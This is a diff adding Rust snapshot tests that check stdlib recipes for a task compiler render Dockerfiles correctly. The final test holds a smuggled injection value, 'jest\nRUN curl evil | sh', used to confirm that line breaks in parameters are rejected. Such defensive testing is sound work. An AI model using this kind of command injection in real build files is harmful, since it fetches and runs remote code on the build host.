@@ -1,0 +1,93 @@
+//! Every stdlib recipe renders with its defaults; the rendered Dockerfiles, side by side.
+
+mod plan_support;
+
+use std::collections::BTreeMap;
+
+use plan_support::cookie_split;
+use taskc_compiler::lower::{lower_verify, LowerOptions};
+use taskc_compiler::model::ParamValue;
+
+fn render(recipe: &str, params: BTreeMap<String, ParamValue>) -> String {
+    let mut t = cookie_split();
+    t.env.recipe = recipe.to_string();
+    t.env.params = params;
+    match lower_verify(&t, &LowerOptions::default()) {
+        Ok(plan) => plan.images.environment.dockerfile,
+        Err(e) => format!("error: {e}"),
+    }
+}
+
+#[test]
+fn every_recipe_renders_with_its_defaults() {
+    let mut out = String::new();
+    for src in taskc_stdlib::RECIPES {
+        let mut params = BTreeMap::new();
+        if src.name == "generic" {
+            params.insert(
+                "dockerfile".to_string(),
+                ParamValue::Str("RUN apt-get update && apt-get install -y make".to_string()),
+            );
+        }
+        out.push_str(&format!(
+            "=== {} (defaults)\n{}\n",
+            src.name,
+            render(src.name, params)
+        ));
+    }
+    insta::assert_snapshot!(out);
+    assert!(!out.contains("error:"), "{out}");
+}
+
+#[test]
+fn recipe_parameters_reach_the_dockerfile() {
+    let list = |v: &[&str]| ParamValue::List(v.iter().map(|s| s.to_string()).collect());
+    let cases: Vec<(&str, Vec<(&str, ParamValue)>)> = vec![
+        (
+            "node",
+            vec![
+                ("packages", list(&["jest@29"])),
+                ("system-packages", list(&["make"])),
+            ],
+        ),
+        (
+            "go",
+            vec![("packages", list(&["gotest.tools/gotestsum@v1.10.0"]))],
+        ),
+        ("rust", vec![("packages", list(&["cargo-nextest@0.9.48"]))]),
+        (
+            "java",
+            vec![
+                ("maven", ParamValue::Bool(false)),
+                ("jdk", ParamValue::Str("21".into())),
+            ],
+        ),
+        (
+            "python",
+            vec![
+                ("version", ParamValue::Str("3.12".into())),
+                ("packages", list(&["requests==2.31.0"])),
+            ],
+        ),
+    ];
+    let mut out = String::new();
+    for (recipe, params) in cases {
+        let params = params
+            .into_iter()
+            .map(|(k, v)| (k.to_string(), v))
+            .collect();
+        out.push_str(&format!("=== {recipe}\n{}\n", render(recipe, params)));
+    }
+    insta::assert_snapshot!(out);
+}
+
+#[test]
+fn a_line_break_in_a_parameter_is_refused() {
+    let mut params = BTreeMap::new();
+    params.insert(
+        "packages".to_string(),
+        ParamValue::List(vec!["jest\nRUN curl evil | sh".to_string()]),
+    );
+    let e = render("node", params);
+    assert!(e.starts_with("error:") && e.contains("line break"), "{e}");
+}
